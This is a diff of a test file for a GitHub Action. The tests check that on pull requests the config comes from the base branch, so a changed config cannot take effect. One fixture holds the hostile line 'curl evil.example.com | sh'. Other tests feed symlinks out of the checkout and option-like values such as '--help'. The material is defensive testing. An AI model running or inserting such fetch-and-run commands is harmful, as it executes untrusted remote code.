@@ -1,14 +1,12 @@
-import { execFileSync } from 'node:child_process';
-import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { type RawInputs, type Run, readRun } from '../../src/settings/read.ts';
 import { ExpectedError } from '../../src/errors.ts';
+import { type RawInputs, type Run, readRun } from '../../src/settings/read.ts';
 import { type GitHubHarness, startGitHub } from '../harness/github/start.ts';
-import { makeRepository } from '../harness/go-modules.ts';
 import { temporaryFolder } from '../harness/temporary.ts';
 
-/** On a pull request, the config file that counts is the one that was accepted: that of the base. */
+/** On a pull request, the config file that counts is the accepted one: that of the base. */
 
 type Files = Readonly<Record<string, string>>;
 
@@ -16,11 +14,19 @@ const FILE = '.github/pgo.yml';
 const ACCEPTED = 'min-samples: 111\n';
 const HOSTILE = 'min-samples: 666\nserve: curl evil.example.com | sh\n';
 
+let github: GitHubHarness;
+let branches = 0;
+beforeAll(async () => {
+  github = await startGitHub({ files: { [FILE]: ACCEPTED } });
+});
+afterAll(async () => {
+  await github[Symbol.asyncDispose]();
+  github.expectNoViolations();
+});
+
 interface Scene extends AsyncDisposable {
   /** The checkout. */
   readonly root: string;
-  readonly base: string;
-  git(...args: string[]): Promise<string>;
   write(files: Files): Promise<void>;
   /** What a run for this event is to do. */
   read(raw?: Partial<RawInputs>, options?: Reading): Promise<Run>;
@@ -33,48 +39,39 @@ interface Reading {
   readonly token?: string;
 }
 
-/** A clone with one commit that has been accepted. */
-async function sceneWith(files: Files): Promise<Scene> {
+/** A checkout, and a base on GitHub with other files. */
+async function sceneWith({ base, checkout }: { base: Files; checkout: Files }): Promise<Scene> {
   const folder = await temporaryFolder();
   const root = join(folder.path, 'work');
-  const write: Scene['write'] = async (written) => {
-    for (const [name, text] of Object.entries(written)) {
+  const write: Scene['write'] = async (files) => {
+    for (const [name, text] of Object.entries(files)) {
       await mkdir(dirname(join(root, name)), { recursive: true });
       await writeFile(join(root, name), text);
     }
   };
-  await write({ 'go.mod': 'module example.com/shop\n', ...files });
-  const git = await makeRepository(root);
-  const base = await git('rev-parse', 'HEAD');
+  await write({ '.git/HEAD': '', 'go.mod': 'module example.com/shop\n', ...checkout });
+  branches += 1;
+  const sha = await github.emulator.commit(github.repository, `base-${branches}`, { 'go.mod': '', ...base });
   return {
     root,
-    base,
-    git,
     write,
-    async read(raw = {}, { event = 'pull_request', pull = {}, env = {}, token } = {}) {
+    async read(raw = {}, { event = 'pull_request', pull = {}, env = {}, ...how } = {}) {
       const path = join(folder.path, 'event.json');
-      const pull_request = { number: 7, merged: false, base: { ref: 'main', sha: base }, ...pull };
+      const pull_request = { number: 7, merged: false, base: { ref: 'main', sha }, ...pull };
       await writeFile(path, JSON.stringify(event.startsWith('pull_request') ? { pull_request } : {}));
-      return readRun(
-        { settings: {}, ...raw, ...(token !== undefined && { token }) },
-        {
-          cwd: root,
-          env: {
-            ...{ PATH: process.env['PATH'], GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: path },
-            ...{ GITHUB_REPOSITORY: 'octo/service', GITHUB_WORKSPACE: root, ...env },
-          },
-          mask: () => {},
-        },
-        'check',
-      );
+      const token = 'token' in how ? how.token : github.token;
+      const all = {
+        ...{ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: path, GITHUB_API_URL: github.url },
+        ...{ GITHUB_REPOSITORY: github.repository, GITHUB_WORKSPACE: root, ...env },
+      };
+      return readRun({ settings: {}, ...raw, token }, { cwd: root, env: all, mask: () => {} }, 'check');
     },
     [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
   };
 }
 
-async function minSamples(run: Run): Promise<number> {
-  const config = await run.targets[0]?.config();
-  return config?.minSamples ?? 0;
+async function minSamples(run: Run): Promise<number | undefined> {
+  return (await run.targets[0]?.config())?.minSamples;
 }
 
 const notes = ({ findings }: Run) => findings.map(({ severity, message }) => `${severity}: ${message}`);
@@ -85,379 +82,173 @@ const ADDED = [
   `note: \`${FILE}\` is not on \`main\` yet: what this pull request says in it counts once it is merged.`,
 ];
 
-async function refusal(reading: Promise<unknown>): Promise<{ text: string; exitCode: number }> {
-  try {
-    await reading;
-  } catch (error) {
-    if (!(error instanceof ExpectedError)) throw error;
-    return { text: `${error.message} ${error.fix}`, exitCode: error.exitCode };
-  }
-  throw new Error('it was accepted');
+async function refusal(reading: Promise<unknown>): Promise<string> {
+  const outcome = await reading.catch((error: unknown) => error);
+  if (outcome instanceof ExpectedError) return `${outcome.exitCode}: ${outcome.message} ${outcome.fix}`;
+  throw new Error('it was accepted', { cause: outcome });
 }
 
-describe('with the base in the clone', () => {
-  test.each(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'])(
-    'a changed file has no say on %s',
-    async (event) => {
-      await using scene = await sceneWith({ [FILE]: ACCEPTED });
-      await scene.write({ [FILE]: HOSTILE });
-      await scene.git('commit', '--quiet', '--all', '--message=Change');
-      const run = await scene.read({}, { event });
-      expect(run).toMatchObject({ kind: 'one' });
-      expect(await minSamples(run)).toBe(111);
-      expect(notes(run)).toEqual(CHANGED);
-    },
-  );
+const changed = () => sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { [FILE]: HOSTILE } });
 
-  test.each(['push', 'schedule', 'merge_group', 'workflow_run', 'workflow_dispatch', ''])(
-    'it is what is checked out on %s',
-    async (event) => {
-      await using scene = await sceneWith({ [FILE]: ACCEPTED });
-      await scene.write({ [FILE]: 'min-samples: 222' });
-      const run = await scene.read({}, { event });
-      expect(await minSamples(run)).toBe(222);
-      expect(notes(run)).toEqual([]);
-    },
-  );
-
-  test.each([
-    { merged: true },
-    { merged: true, merged_at: '2026-11-20T06:00:00Z' },
-    { merged_at: '2026-11-20T06:00:00Z' },
-  ])('what was merged is accepted: %j', async (pull) => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await scene.write({ [FILE]: 'min-samples: 222' });
-    const run = await scene.read({}, { pull: { merged: undefined, ...pull } });
-    expect(await minSamples(run)).toBe(222);
-  });
-
-  test.each([{ merged: null, merged_at: null }, { merged: 'true' }, { merged: 1 }])(
-    'what is not merged is not: %j',
-    async (pull) => {
-      await using scene = await sceneWith({ [FILE]: ACCEPTED });
-      await scene.write({ [FILE]: HOSTILE });
-      expect(await refusalOrSamples(scene, pull)).toBe(111);
-    },
-  );
-
-  async function refusalOrSamples(scene: Scene, pull: Reading['pull']): Promise<unknown> {
-    try {
-      return await minSamples(await scene.read({}, { pull: { ...pull } }));
-    } catch (error) {
-      // An event as GitHub never writes it: the checkout's file is not read then either.
-      expect(String(error)).toContain('which is not known');
-      return 111;
-    }
-  }
-
-  test('the same file, with other line ends, is nothing to speak of', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await scene.write({ [FILE]: ACCEPTED.replaceAll('\n', '\r\n'), 'main.go': 'package main' });
-    const run = await scene.read();
-    expect(await minSamples(run)).toBe(111);
-    expect(notes(run)).toEqual([]);
-  });
-
-  test('one that is new counts once it is merged', async () => {
-    await using scene = await sceneWith({});
-    await scene.write({ [FILE]: HOSTILE });
-    const run = await scene.read();
-    expect(await minSamples(run)).toBe(100);
-    expect(notes(run)).toEqual(ADDED);
-  });
-
-  test('one that is taken away still counts', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await rm(join(scene.root, '.github'), { recursive: true });
-    const run = await scene.read();
+test.each(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'])(
+  'a changed file has no say on %s',
+  async (event) => {
+    await using scene = await changed();
+    const run = await scene.read({}, { event });
     expect(await minSamples(run)).toBe(111);
     expect(notes(run)).toEqual(CHANGED);
-  });
+  },
+);
 
-  test('a file in the working directory does not hide that of the root, unless it was accepted', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED, 'svc/go.mod': 'module m\n' });
-    await scene.write({ [`svc/${FILE}`]: HOSTILE });
-    const run = await scene.read({ workingDirectory: 'svc' });
-    expect(await minSamples(run)).toBe(111);
-    expect(notes(run)).toEqual(CHANGED);
-
-    await scene.git('add', '--all');
-    await scene.git('commit', '--quiet', '--message=Accepted');
-    const sha = await scene.git('rev-parse', 'HEAD');
-    const later = await scene.read({ workingDirectory: 'svc' }, { pull: { base: { ref: 'main', sha } } });
-    expect(await minSamples(later)).toBe(666);
-    expect(notes(later)).toEqual([]);
-  });
-
-  test('a named one is that of the base, too', async () => {
-    await using scene = await sceneWith({ 'ci/pgo.yaml': ACCEPTED });
-    await scene.write({ 'ci/pgo.yaml': HOSTILE, 'ci/new.yaml': HOSTILE });
-    expect(await minSamples(await scene.read({ config: 'ci/pgo.yaml' }))).toBe(111);
-    expect(await minSamples(await scene.read({ config: join(scene.root, 'ci/pgo.yaml') }))).toBe(111);
-    expect(await refusal(scene.read({ config: 'ci/new.yaml' }))).toEqual({
-      text: 'config: there is no file `ci/new.yaml` on `main`, the base of this pull request. Name a file that is on `main`: what a pull request adds counts once it is merged. Or leave `config` out.',
-      exitCode: 2,
-    });
-  });
-
-  test('what an earlier step has written beside the checkout is as it is', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    const beside = join(scene.root, '..', 'made.yml');
-    await writeFile(beside, 'min-samples: 333');
-    expect(await minSamples(await scene.read({ config: beside }))).toBe(333);
-  });
-
-  test('targets are those of the base, with their folders in the checkout', async () => {
-    const targets =
-      'targets:\n  - { name: api, working-directory: api, min-samples: 11 }\n  - { name: mail, working-directory: mail }\n';
-    await using scene = await sceneWith({
-      [FILE]: targets,
-      'api/go.mod': 'module a\n',
-      'mail/go.mod': 'module m\n',
-    });
-    await scene.write({ [FILE]: targets.replace('11', '99').replace('mail }', 'mail, serve: ./evil }') });
-    const run = await scene.read();
-      const [api, mail] = await Promise.all(run.targets.map((target) => target.config()));
-    expect(api).toMatchObject({ target: 'api', minSamples: 11, workingDirectory: join(scene.root, 'api') });
-    expect(mail?.underLoad).toBeUndefined();
-    expect(notes(run)).toEqual(CHANGED);
-  });
-
-  test('errors name the branch whose file it is', async () => {
-    await using scene = await sceneWith({ [FILE]: 'min-sampels: 5\n' });
-    await scene.write({ [FILE]: 'min-samples: 5\n' });
-    expect((await refusal(scene.read())).text).toContain(`${FILE} on main: `);
-  });
-
-  test('another commit that is told to stand for the base does not', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await scene.write({ [FILE]: HOSTILE });
-    await scene.git('commit', '--quiet', '--all', '--message=Change');
-    await scene.git('replace', scene.base, 'HEAD');
-    expect(await scene.git('show', `${scene.base}:${FILE}`)).toContain('666');
-    expect(await minSamples(await scene.read())).toBe(111);
-  });
-
-  test('a branch of the name of the base does not either', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await scene.write({ [FILE]: HOSTILE });
-    await scene.git('commit', '--quiet', '--all', '--message=Change');
-    await scene.git('tag', scene.base, 'HEAD');
-    expect(await minSamples(await scene.read())).toBe(111);
-  });
+test.each<[string, Reading]>([
+  ['push', { event: 'push' }],
+  ['schedule', { event: 'schedule' }],
+  ['merge_group', { event: 'merge_group' }],
+  ['no event', { event: '' }],
+  ['a merged pull request', { pull: { merged: true } }],
+  ['a merged pull request of Gitea', { pull: { merged: undefined, merged_at: '2026-11-20T06:00:00Z' } }],
+])('what is checked out counts on %s', async (_what, reading) => {
+  await using scene = await changed();
+  const run = await scene.read({}, reading);
+  expect([await minSamples(run), notes(run)]).toEqual([666, []]);
 });
 
-describe('what is no plain file on the base', () => {
-  test.each([
-    ['the file', FILE],
-    ['its folder', '.github'],
-  ])('%s is a symbolic link', async (_what, path) => {
-    await using scene = await sceneWith({ 'evil/pgo.yml': HOSTILE });
-    await mkdir(dirname(join(scene.root, path)), { recursive: true });
-    await symlink(path === FILE ? '../evil/pgo.yml' : 'evil', join(scene.root, path));
-    await scene.git('add', '--all');
-    await scene.git('commit', '--quiet', '--message=Link');
-    const sha = await scene.git('rev-parse', 'HEAD');
-    expect(await refusal(scene.read({}, { pull: { base: { ref: 'main', sha } } }))).toEqual({
-      text: expect.stringMatching(
-        /^config: `\.github(\/pgo\.yml)?` is a symbolic link on `main`, so that .+ Let the config file be a plain file/,
-      ),
-      exitCode: 2,
-    });
-  });
+test('the same file with other line ends needs no note', async () => {
+  const checkout = { [FILE]: ACCEPTED.replaceAll('\n', '\r\n') };
+  await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout });
+  expect(notes(await scene.read())).toEqual([]);
+});
 
-  test.each([FILE, '.github'])('%s is a submodule', async (path) => {
-    await using scene = await sceneWith({});
-    await scene.git('update-index', '--add', '--cacheinfo', `160000,${scene.base},${path}`);
-    await scene.git('commit', '--quiet', '--message=Submodule');
-    const sha = await scene.git('rev-parse', 'HEAD');
-    const { text } = await refusal(scene.read({}, { pull: { base: { ref: 'main', sha } } }));
-    expect(text).toContain(`\`${path}\` is a submodule on \`main\``);
-  });
+test('a new file counts once it is merged, and a deleted one still counts', async () => {
+  await using added = await sceneWith({ base: {}, checkout: { [FILE]: HOSTILE } });
+  const run = await added.read();
+  expect([await minSamples(run), notes(run)]).toEqual([100, ADDED]);
+  await using deleted = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: {} });
+  const other = await deleted.read();
+  expect([await minSamples(other), notes(other)]).toEqual([111, CHANGED]);
+});
 
-  test('a link that the pull request makes of it is not followed', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await rm(join(scene.root, FILE));
-    // Whoever read it would never end.
+test('a file in the working directory hides that of the root only if it was accepted', async () => {
+  const svc = { 'svc/go.mod': 'module m\n', [`svc/${FILE}`]: HOSTILE };
+  await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { [FILE]: ACCEPTED, ...svc } });
+  expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
+  await using later = await sceneWith({ base: { [FILE]: ACCEPTED, ...svc }, checkout: svc });
+  expect(await minSamples(await later.read({ workingDirectory: 'svc' }))).toBe(666);
+});
+
+test('a named file is that of the base, too, and one outside of the checkout is as it is', async () => {
+  const base = { 'ci/pgo.yaml': ACCEPTED };
+  await using scene = await sceneWith({ base, checkout: { 'ci/pgo.yaml': HOSTILE, 'ci/new.yaml': HOSTILE } });
+  expect(await minSamples(await scene.read({ config: 'ci/pgo.yaml' }))).toBe(111);
+  expect(await minSamples(await scene.read({ config: join(scene.root, 'ci/pgo.yaml') }))).toBe(111);
+  expect(await refusal(scene.read({ config: 'ci/new.yaml' }))).toBe(
+    '2: config: there is no file `ci/new.yaml on main`. Name an existing file, or leave `config` out. On a pull request, a new one counts once it is merged.',
+  );
+  const beside = join(scene.root, '..', 'made.yml');
+  await writeFile(beside, 'min-samples: 333');
+  expect(await minSamples(await scene.read({ config: beside }))).toBe(333);
+});
+
+test('targets are those of the base, with their folders in the checkout', async () => {
+  const targets = 'targets: [{ name: api, working-directory: api, min-samples: 11 }, { name: mail }]\n';
+  const checkout = {
+    [FILE]: targets.replace('11', '99').replace('mail', 'post'),
+    'api/go.mod': 'module a\n',
+  };
+  await using scene = await sceneWith({ base: { [FILE]: targets }, checkout });
+  const run = await scene.read();
+  expect(run.targets.map(({ name }) => name)).toEqual(['api', 'mail']);
+  const api = await run.targets[0]?.config();
+  expect(api).toMatchObject({ target: 'api', minSamples: 11, workingDirectory: join(scene.root, 'api') });
+});
+
+test('errors name the branch whose file it is', async () => {
+  await using scene = await sceneWith({
+    base: { [FILE]: 'min-sampels: 5\n' },
+    checkout: { [FILE]: ACCEPTED },
+  });
+  expect(await refusal(scene.read())).toContain(`${FILE} on main: `);
+});
+
+test('a folder on the base is not a config file', async () => {
+  await using scene = await sceneWith({ base: { [`${FILE}/x`]: '' }, checkout: {} });
+  expect(await refusal(scene.read())).toContain(`2: config: \`${FILE}\` is not a file on \`main\``);
+});
+
+describe('folders that a pull request replaces', () => {
+  test('a link instead of the file is not followed', async () => {
+    await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { '.github/x': '' } });
+    // Reading it would never end.
     await symlink('/dev/zero', join(scene.root, FILE));
-    const run = await scene.read();
-    expect(await minSamples(run)).toBe(111);
-    expect(notes(run)).toEqual(CHANGED);
+    expect(await minSamples(await scene.read())).toBe(111);
   });
-});
 
-describe('folders that a pull request makes something else of', () => {
-  test('a submodule with a config file of its own', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED, 'svc/go.mod': 'module m\n' });
-    await using other = await sceneWith({ [FILE]: HOSTILE, 'go.mod': 'module m\n' });
-    await scene.git('rm', '-r', '--quiet', 'svc');
-    execFileSync(
-      'git',
-      ['-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', other.root, 'svc'],
-      { cwd: scene.root },
-    );
-    expect(await readFile(join(scene.root, 'svc', FILE), 'utf8')).toBe(HOSTILE);
+  test('a submodule with its own config file has no say', async () => {
+    const svc = { 'svc/.git': 'gitdir: ../.git/modules/svc', [`svc/${FILE}`]: HOSTILE };
+    await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: svc });
     expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
   });
 
-  test('a submodule that was one before: its own file cannot be accepted here', async () => {
-    await using scene = await sceneWith({ [FILE]: ACCEPTED });
-    await using other = await sceneWith({ 'go.mod': 'module m\n' });
-    execFileSync(
-      'git',
-      ['-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', other.root, 'svc'],
-      { cwd: scene.root },
-    );
-    await scene.git('commit', '--quiet', '--all', '--message=Submodule');
-    const pull = { base: { ref: 'main', sha: await scene.git('rev-parse', 'HEAD') } };
-    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }, { pull }))).toBe(111);
-    await scene.write({ [`svc/${FILE}`]: HOSTILE });
-    const { text } = await refusal(scene.read({ workingDirectory: 'svc' }, { pull }));
-    expect(text).toContain('config: `svc` is a submodule on `main`');
-  });
-
-  test('a link to the root: the file is still that of the folder', async () => {
-    await using scene = await sceneWith({ [FILE]: 'min-samples: 444', [`svc/${FILE}`]: ACCEPTED });
-    await rm(join(scene.root, 'svc'), { recursive: true });
+  test('a link to the root does not make the root’s file that of the folder', async () => {
+    const base = { [FILE]: 'min-samples: 444', [`svc/${FILE}`]: ACCEPTED };
+    await using scene = await sceneWith({ base, checkout: {} });
     await symlink('.', join(scene.root, 'svc'));
     expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
   });
 
-  const outside = async (
-    setup: (scene: Scene) => Promise<void>,
-    reading: (scene: Scene) => Promise<unknown>,
-  ) => {
-    await using scene = await sceneWith({
-      [FILE]: 'targets: [{ name: api, working-directory: svc }]',
-      'svc/go.mod': 'module m\n',
-    });
-    await setup(scene);
-    return await refusal(reading(scene));
-  };
-  const link = async ({ root }: Scene) => {
-    await mkdir(join(root, '..', 'outside', 'deep'), { recursive: true });
-    await writeFile(join(root, '..', 'outside', 'secret.txt'), 'a secret');
-    await rm(join(root, 'svc'), { recursive: true });
-    await symlink('../outside', join(root, 'svc'));
-  };
-  const config = async (run: Run) => run.targets[0]?.config();
+  /** `svc` leads out of the checkout. */
+  async function linked(): Promise<Scene> {
+    const base = { [FILE]: 'targets: [{ name: api, working-directory: svc }]' };
+    const scene = await sceneWith({ base, checkout: {} });
+    await mkdir(join(scene.root, '..', 'outside', 'deep'), { recursive: true });
+    await symlink('../outside', join(scene.root, 'svc'));
+    return scene;
+  }
+  const config = (run: Run) => run.targets[0]?.config();
 
-  test.each([
-    ['working-directory', { workingDirectory: 'svc/deep' }, 'working-directory: svc/deep leads out'],
-    ['working-directory', { workingDirectory: 'svc' }, 'working-directory: svc leads out'],
-    ['a target’s', {}, 'targets[0] (api): working-directory: svc leads out'],
-  ])('a link out of the checkout is refused as %s', async (_what, raw, said) => {
-    const { text, exitCode } = await outside(link, async (scene) => config(await scene.read(raw)));
-    expect(text).toContain(said);
-    expect(text).toContain('by a symbolic link, which is not followed for a pull request.');
-    expect(exitCode).toBe(2);
-  });
-
-  test.each([
-    ['output-directory', 'svc/new/folder'],
-    ['body-path', 'svc/secret.txt'],
-    ['profile', 'svc/default.pgo'],
-  ])('and as %s', async (setting, path) => {
-    await using scene = await sceneWith({ 'svc/go.mod': 'module m\n' });
-    await link(scene);
-    const { text } = await refusal(scene.read({ settings: { [setting]: path } }).then(config));
-    expect(text).toContain(`${setting}: ${path} leads out of the checkout`);
+  test.each<[string, Partial<RawInputs>]>([
+    ['working-directory: svc/deep', { workingDirectory: 'svc/deep' }],
+    ['targets[0] (api): working-directory: svc', {}],
+    [
+      'output-directory: svc/new/folder',
+      { config: false, settings: { 'output-directory': 'svc/new/folder' } },
+    ],
+    ['body-path: svc/secret.txt', { config: false, settings: { 'body-path': 'svc/secret.txt' } }],
+    ['profile: svc/default.pgo', { config: false, settings: { profile: 'svc/default.pgo' } }],
+  ])('a link out of the checkout is refused: %s', async (said, raw) => {
+    await using scene = await linked();
+    const text = await refusal(scene.read(raw).then(config));
+    expect(text).toContain(`${said} leads out of the checkout by a symbolic link`);
     // The owner's own links are the owner's.
-    await config(await scene.read({ settings: { [setting]: path } }, { event: 'push' }));
+    if (raw.settings !== undefined) await scene.read(raw, { event: 'push' }).then(config);
   });
 });
 
-describe('without the base in the clone', () => {
-  let github: GitHubHarness;
-  beforeAll(async () => {
-    github = await startGitHub({ files: { [FILE]: ACCEPTED, 'svc/go.mod': 'module m' } });
-  });
-  afterAll(async () => {
-    await github[Symbol.asyncDispose]();
-    github.expectNoViolations();
-  });
-  /** The checkout is a shallow one of the merge commit, and holds what the pull request wants. */
-  async function asked(
-    how: {
-      sha?: string;
-      token?: string;
-      raw?: Partial<RawInputs>;
-      setup?: (scene: Scene) => Promise<unknown>;
-    } = {},
-  ) {
-    await using scene = await sceneWith({ [FILE]: HOSTILE, 'svc/go.mod': 'module m\n' });
-    await how.setup?.(scene);
-    const sha = how.sha ?? ((await github.emulator.head(github.repository, 'main')) as string);
-    const run = await scene.read(how.raw ?? {}, {
-      pull: { base: { ref: 'main', sha } },
-      env: { GITHUB_API_URL: github.url },
-      ...('token' in how ? how.token !== undefined && { token: how.token } : { token: github.token }),
-    });
-    return { samples: await minSamples(run), notes: notes(run) };
-  }
-
-  test('GitHub is asked', async () => {
-    expect(await asked()).toEqual({ samples: 111, notes: CHANGED });
-    expect(await asked({ raw: { workingDirectory: 'svc' } })).toEqual({ samples: 111, notes: CHANGED });
-  });
-
-  test('also where there is no clone at all, as after a download of the files', async () => {
-    const setup = ({ root }: Scene) => rm(join(root, '.git'), { recursive: true });
-    expect(await asked({ setup })).toEqual({ samples: 111, notes: CHANGED });
-  });
-
-  test('a file that GitHub has not is not taken from the checkout', async () => {
-    const { emulator, repository } = github;
-    const sha = await emulator.commit(repository, 'empty', { 'README.md': '' });
-    expect(await asked({ sha })).toEqual({ samples: 100, notes: ADDED });
-  });
-
-  test('a symbolic link is told from what it leads to', async () => {
-    const { emulator, repository } = github;
-    const git = `/repos/${repository}/git`;
-    const { sha: blob } = await emulator.must('POST', `${git}/blobs`, {
-      content: 'evil.yml',
-      encoding: 'utf-8',
-    });
-    const entry = { path: FILE, mode: '120000', type: 'blob', sha: blob };
-    const { sha: tree } = await emulator.must('POST', `${git}/trees`, { tree: [entry] });
-    const { sha } = await emulator.must('POST', `${git}/commits`, { message: 'Link', tree, parents: [] });
-    expect((await refusal(asked({ sha }))).text).toContain(`\`${FILE}\` is a symbolic link on \`main\``);
-  });
-
-  test('without anybody who knows it, the run ends', async () => {
-    const { text, exitCode } = await refusal(asked({ token: undefined as never }));
-    expect(text).toMatch(
-      /^On a pull request the config file is read from its base, and the commit [0-9a-f]{10} of `main` cannot be had: this clone does not hold it, and there is no token for GitHub's API\. Fetch it before: `fetch-depth: 0` on the step with `actions\/checkout`\./,
-    );
-    expect(exitCode).toBe(1);
-  });
-
-  test.each([
-    ['a commit that is not there', { sha: '1'.repeat(40) }, "GitHub's API answered 404"],
-    ['a token that is not valid', { token: 'ghs_wrong' }, "GitHub's API answered 401"],
-  ])('%s ends it, too', async (_what, how, said) => {
-    const { text } = await refusal(asked(how));
+describe('without the base', () => {
+  test.each<[string, Reading, string]>([
+    ['a token', { token: undefined as never }, "there is no token for GitHub's API. Set `token`"],
+    ['a valid token', { token: 'ghs_wrong' }, "GitHub's API answered 401"],
+    ['the commit', { pull: { base: { ref: 'main', sha: '1'.repeat(40) } } }, "GitHub's API answered 404"],
+  ])('the run ends: without %s', async (_what, reading, said) => {
+    await using scene = await changed();
+    const text = await refusal(scene.read({}, reading));
+    expect(text).toMatch(/^1: On a pull request the config file is read from its base, and commit /);
     expect(text).toContain(said);
     expect(text).toContain('permissions: { contents: read }');
   });
 
-  test.each([
-    ['names no base', { base: undefined }],
-    ['names another thing', { base: { ref: 'main', sha: 'main' } }],
-    ['names an option', { base: { ref: 'main', sha: '--help' } }],
-  ])('an event that %s ends it where the checkout has a config file', async (_what, pull) => {
-    await using scene = await sceneWith({ [FILE]: HOSTILE });
-    const { text } = await refusal(scene.read({}, { pull }));
-    expect(text).toMatch(/^On a pull request \.github\/pgo\.yml is read from its base, which is not known: /);
-    await using without = await sceneWith({});
-    expect(await minSamples(await without.read({}, { pull }))).toBe(100);
-  });
-
-  test('so does one that is not there', async () => {
-    await using scene = await sceneWith({ [FILE]: HOSTILE });
-    for (const GITHUB_EVENT_PATH of ['', join(scene.root, 'none.json'), scene.root]) {
-      expect((await refusal(scene.read({}, { env: { GITHUB_EVENT_PATH } }))).text).toContain('not known');
-    }
+  test.each<[string, Reading]>([
+    ['names no base', { pull: { base: undefined } }],
+    ['names a branch', { pull: { base: { ref: 'main', sha: 'main' } } }],
+    ['names an option', { pull: { base: { ref: 'main', sha: '--help' } } }],
+    ['is not there', { env: { GITHUB_EVENT_PATH: '/nowhere/event.json' } }],
+    ['has no path', { env: { GITHUB_EVENT_PATH: '' } }],
+  ])('an event that %s ends it where the checkout has a config file', async (_what, reading) => {
+    await using scene = await changed();
+    expect(await refusal(scene.read({}, reading))).toMatch(
+      /^1: On a pull request \.github\/pgo\.yml is read from its base, which is not known: /,
+    );
+    await rm(join(scene.root, FILE));
+    expect(await minSamples(await scene.read({}, reading))).toBe(100);
   });
 });
